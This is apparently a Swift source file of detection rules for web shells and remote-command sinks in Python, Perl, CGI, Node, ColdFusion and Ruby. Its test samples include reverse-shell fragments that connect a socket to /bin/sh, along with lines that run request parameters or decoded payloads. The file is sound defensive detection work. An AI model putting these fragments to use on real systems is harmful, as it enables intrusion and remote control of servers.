/// Shells in languages that are judged by rules alone.
enum OtherLanguageRules {
  static let all: [SignatureRule] = [
    SignatureRule(
      "python.request-run", [.python], .sink, .decisive, "what the request brings is run",
      #"\b(?:exec|eval|os\.system|os\.popen|subprocess\.\w{3,20}|commands\.getoutput|commands\.getstatusoutput)\([^\n]*(?:request\.(?:args|form|values|get|post|data|json|cookies|headers|get_data)|form\.getvalue|form\[|getfirst\(|fieldstorage|query_string)"#,
      finds: ["os.system(request.args.get('c'))", "eval(form.getvalue('x'))"],
      passes: ["os.system('ls')\nx = request.args"]),
    SignatureRule(
      "python.cgi", [.python], .source, .strong, "a CGI script reads a form", #"cgi\.fieldstorage\("#,
      finds: ["form = cgi.FieldStorage()"], passes: ["import cgi"]),
    SignatureRule(
      "python.command", [.python], .sink, .weak, "a command is run",
      #"\b(?:os\.system|os\.popen\w?|subprocess\.popen|commands\.getoutput|commands\.getstatusoutput|pty\.spawn)\("#,
      finds: ["os.popen(cmd)"], passes: ["os.path.join(x)"]),
    SignatureRule(
      "python.back-connect", [.python], .family, .decisive, "a shell that calls home",
      #"os\.dup2\(\w+\.fileno\(\),[012]\).*(?:pty\.spawn|subprocess\.(?:call|popen)|os\.exec\w{0,3}|os\.system)\("#,
      finds: ["os.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(['/bin/sh','-i'])"],
      passes: ["os.dup2(f.fileno(), 1)"]),
    SignatureRule(
      "python.unpacked", [.python], .decoder, .strong, "code is unpacked and run",
      #"\b(?:exec|eval)\((?:__import__\('(?:zlib|base64|codecs)'\)|zlib\.decompress|base64\.b64decode|marshal\.loads|codecs\.decode|compile\(base64)"#,
      finds: ["exec(base64.b64decode(x))"], passes: ["exec(open('x').read())"]),
    SignatureRule(
      "perl.request-run", [.perl, .cgi], .sink, .decisive, "what the request brings is run",
      #"\b(?:system|exec|eval)[ (]{0,3}(?:\$(?:in|form|q|query|cgi|input)\{|\$\w+->param\(|param\(|\$env\{'?query_string)|`\$(?:in|form)\{|open\(\w+,'?\$(?:in|form)\{[^)]*\|"#,
      finds: ["system($in{'cmd'});", "exec(param('c'));"], passes: ["system('ls');"]),
    SignatureRule(
      "perl.telnet", [.perl, .cgi], .family, .decisive, "CGI-Telnet or a child of it",
      #"sub executecommand.*sub (?:printdownloadlinkpage|printfileuploadform|performlogin|performlogout)|cgi-telnet version"#,
      view: .raw,
      family: "CGI-Telnet", finds: ["# CGI-Telnet Version 1.3"], passes: ["# telnet client"]),
    SignatureRule(
      "perl.back-connect", [.perl, .cgi], .family, .decisive, "a shell that calls home or waits",
      #"(?:sockaddr_in|inet_aton|io::socket::inet).*open\(?stdin,'?(?:>|<)&.*(?:exec|system)"#,
      finds: [
        "connect(S, sockaddr_in($p, inet_aton($h)));\nopen(STDIN,\">&S\");open(STDOUT,\">&S\");exec('/bin/sh -i');"
      ],
      passes: ["use IO::Socket::INET;\nprint 1;"]),
    SignatureRule(
      "perl.command", [.perl, .cgi], .sink, .strong, "a command out of the query is run",
      #"(?:query_string|content_length|param\().*(?:system\(|exec\(|`\$\w|open\(\w+,'?[^)]*\|)"#,
      finds: ["read(STDIN, $b, $ENV{'CONTENT_LENGTH'}); open(C, \"$cmd 2>&1 |\");"], passes: ["system('ls');"]),
    SignatureRule(
      "cgi.request-run", [.cgi], .sink, .decisive, "what the request brings is run",
      #"(?:\beval\b|\bsh -c\b|\bbash -c\b)[^\n]*\$\{?(?:query_string|http_[a-z_]{2,40})"#,
      view: .raw, finds: ["#!/bin/sh\neval \"$QUERY_STRING\""], passes: ["#!/bin/sh\necho \"$QUERY_STRING\""]),
    SignatureRule(
      "cgi.decoded-run", [.cgi], .sink, .strong, "the query is unpacked and run",
      #"query_string.*(?:\beval\b|\$\(\s*\$\w+|`\$\w+|\bsh -c\b)"#, view: .raw,
      finds: ["#!/bin/bash\nc=$(echo $QUERY_STRING|sed s/x/y/)\neval $c"], passes: ["#!/bin/sh\necho $QUERY_STRING"]),
    SignatureRule(
      "node.request-run", [.node], .sink, .decisive, "what the request brings is run",
      #"\b(?:eval|exec|execsync|spawn|spawnsync|vm\.runin\w{4,20})\([^\n;]*\b(?:req|request|ctx)\.(?:query|body|params|headers|cookies|url)"#,
      finds: ["require('child_process').exec(req.query.c, (e, o) => res.end(o))"], passes: ["pattern.exec(url)"]),
    SignatureRule(
      "node.parsed-run", [.node], .sink, .strong, "a server that runs what its address holds",
      #"createserver\(.*url\.parse\(.*(?:\bexec(?:sync)?|\bspawn(?:sync)?|\beval)\("#,
      finds: ["http.createServer((q,s)=>{let c=url.parse(q.url,true).query.c;cp.exec(c,(e,o)=>s.end(o))})"],
      passes: ["http.createServer((q,s)=>s.end('x'))"]),
    SignatureRule(
      "node.back-connect", [.node], .family, .decisive, "a shell that calls home",
      #"spawn\('/bin/(?:ba)?sh'.*\.pipe\(\w+\.stdin\)"#,
      finds: ["var sh=cp.spawn('/bin/sh',[]);c.connect(1,'x',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c)})"],
      passes: ["cp.spawn('/bin/ls')"]),
    SignatureRule(
      "cfml.execute", [.cfml], .sink, .strong, "a command is run", #"<cfexecute\b"#, view: .raw,
      finds: ["<cfexecute name=\"#form.cmd#\" timeout=\"5\">"], passes: ["<cfoutput>x</cfoutput>"]),
    SignatureRule(
      "cfml.execute-request", [.cfml], .sink, .decisive, "a command is run that the request brings",
      #"<cfexecute\b[^>]*#(?:form|url|cgi|cookie|attributes)\."#, view: .raw,
      finds: ["<cfexecute name=\"c:\\x\\cmd.exe\" arguments=\"/c #form.cmd#\" timeout=\"5\">"],
      passes: ["<cfexecute name=\"ls\">"]),
    SignatureRule(
      "cfml.run-request", [.cfml], .sink, .decisive, "what the request brings is run",
      #"\bevaluate\((?:form|url|cgi|cookie)\.|createobject\(["']java["'],["']java\.lang\.runtime["']\)"#, view: .raw,
      finds: ["<cfset x = Evaluate(url.x)>"], passes: ["<cfset x = Evaluate(\"1+1\")>"]),
    SignatureRule(
      "cfml.write-request", [.cfml], .sink, .strong, "a file is written that the request names",
      #"<cffile\b[^>]*action=["']?(?:write|upload|append)[^>]*#(?:form|url)\."#, view: .raw,
      finds: ["<cffile action=\"write\" file=\"#form.path#\" output=\"#form.content#\">"],
      passes: ["<cffile action=\"read\" file=\"x\">"]),
    SignatureRule(
      "ruby.request-run", [.ruby], .sink, .decisive, "what the request brings is run",
      #"(?:\b(?:eval|system|exec)[ (]{1,3}|`#\{)(?:params\[|cgi\[|request\.)"#, view: .raw,
      finds: ["system(params[:c])", "puts `#{params['c']}`"], passes: ["system('ls')"]),
  ]
}
